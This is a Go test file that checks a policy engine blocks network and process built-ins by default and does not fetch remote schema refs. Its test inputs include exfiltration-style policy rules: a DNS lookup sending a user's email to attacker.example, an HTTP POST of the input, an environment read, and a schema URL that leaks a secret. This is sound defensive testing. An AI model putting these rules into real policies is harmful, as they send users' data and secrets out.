package policy_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"

	"github.com/svc-dev/svc/engine/policy"
	"github.com/svc-dev/svc/internal/testkit"
	"github.com/svc-dev/svc/policies"
	"github.com/svc-dev/svc/reason"
)

// TestNetworkBuiltinsForbidden: by default a policy calling a built-in
// that reaches the network or the process does not compile, whichever way
// it is loaded, with a problem naming the built-in and the setting;
// AllowNetworkBuiltins(true) lets it compile. Pure net.* built-ins stay.
func TestNetworkBuiltinsForbidden(t *testing.T) {
	calls := map[string]string{
		"http.send":          `x := http.send({"method": "POST", "url": "http://127.0.0.1:1/", "body": input})`,
		"net.lookup_ip_addr": `x := net.lookup_ip_addr(concat(".", [input.user.email, "attacker.example"]))`,
		"opa.runtime":        `x := opa.runtime().env`,
	}
	for name, rule := range calls {
		t.Run(name, func(t *testing.T) {
			src := "package svc.authz\n\nallow if input.x\n\n" + rule + "\n"
			loaders := map[string]func(...policy.Option) (*policy.Set, error){
				"FromModules": func(o ...policy.Option) (*policy.Set, error) {
					return policy.FromModules(map[string]string{"authz.rego": src}, nil, o...)
				},
				"LoadFS": func(o ...policy.Option) (*policy.Set, error) {
					return policy.LoadFS(fstest.MapFS{"authz.rego": {Data: []byte(src)}}, ".", o...)
				},
				"Load": func(o ...policy.Option) (*policy.Set, error) {
					dir := t.TempDir()
					testkit.WriteFile(t, filepath.Join(dir, "authz.rego"), []byte(src))
					return policy.Load(dir, o...)
				},
			}
			for how, load := range loaders {
				_, err := load()
				var perr *policy.Error
				if !errors.As(err, &perr) || len(perr.Problems) != 1 {
					t.Fatalf("%s: err = %v, want one problem", how, err)
				}
				p := perr.Problems[0]
				if p.Code != policy.CodeBuiltinForbidden || p.Row != 5 ||
					!strings.Contains(p.Msg, name) || !strings.Contains(p.Msg, "policy.allow_network_builtins = true") {
					t.Errorf("%s: problem %+v, want %s at line 5 naming %s and the setting", how, p, policy.CodeBuiltinForbidden, name)
				}
				if got := policy.ReasonOf(err); got != reason.PolicyBuiltinForbidden {
					t.Errorf("%s: ReasonOf = %q, want %q", how, got, reason.PolicyBuiltinForbidden)
				}
				if _, err := load(policy.AllowNetworkBuiltins(true)); err != nil {
					t.Errorf("%s with AllowNetworkBuiltins(true): %v", how, err)
				}
			}
		})
	}

	pure := "package svc.authz\n\nallow if net.cidr_contains(\"10.0.0.0/8\", input.ip)\n\nok if net.cidr_is_valid(\"10.0.0.0/8\")\n"
	set, err := policy.FromModules(map[string]string{"authz.rego": pure}, nil)
	if err != nil {
		t.Fatalf("pure net.cidr_* built-ins: %v", err)
	}
	if res, err := set.EvalValue(context.Background(), map[string]any{"ip": "10.1.2.3"}); err != nil || !res.Allow {
		t.Errorf("net.cidr_contains: %+v, %v", res, err)
	}
}

// TestSchemaRefsStayOffline: json.match_schema stays available, but with
// network built-ins off a schema's remote $ref is not fetched, so a
// policy cannot send its input out through a schema URL either.
func TestSchemaRefsStayOffline(t *testing.T) {
	var asked atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		_, _ = w.Write([]byte(`{"type": "object"}`))
	}))
	t.Cleanup(srv.Close)
	src := "package svc.authz\n\nallow if {\n\t[ok, _] := json.match_schema(input, {\"$ref\": concat(\"\", [\"" + srv.URL + "/?leak=\", input.secret])})\n\tok\n}\n"
	set, err := policy.FromModules(map[string]string{"authz.rego": src}, nil)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = set.EvalValue(context.Background(), map[string]any{"secret": "s3cret"})
	if n := asked.Load(); n != 0 {
		t.Errorf("the schema's remote $ref was fetched %d times", n)
	}
	// The same policy with network built-ins allowed does fetch it: the
	// server above would have seen the request.
	set, err = policy.FromModules(map[string]string{"authz.rego": src}, nil, policy.AllowNetworkBuiltins(true))
	if err != nil {
		t.Fatal(err)
	}
	_, _ = set.EvalValue(context.Background(), map[string]any{"secret": "s3cret"})
	if asked.Load() == 0 {
		t.Errorf("with network built-ins allowed, the remote $ref was not fetched: the test proves nothing")
	}
}

// TestDefaultPoliciesCompileOffline: the embedded default policy and the
// shipped example policies compile without network built-ins.
func TestDefaultPoliciesCompileOffline(t *testing.T) {
	if _, err := policy.LoadFS(policies.Default, "."); err != nil {
		t.Errorf("embedded default policy: %v", err)
	}
	for _, dir := range []string{"../../policies", "../../deploy/demo/candidate-policy"} {
		if _, err := policy.Load(dir); err != nil {
			t.Errorf("%s: %v", dir, err)
		}
	}
}
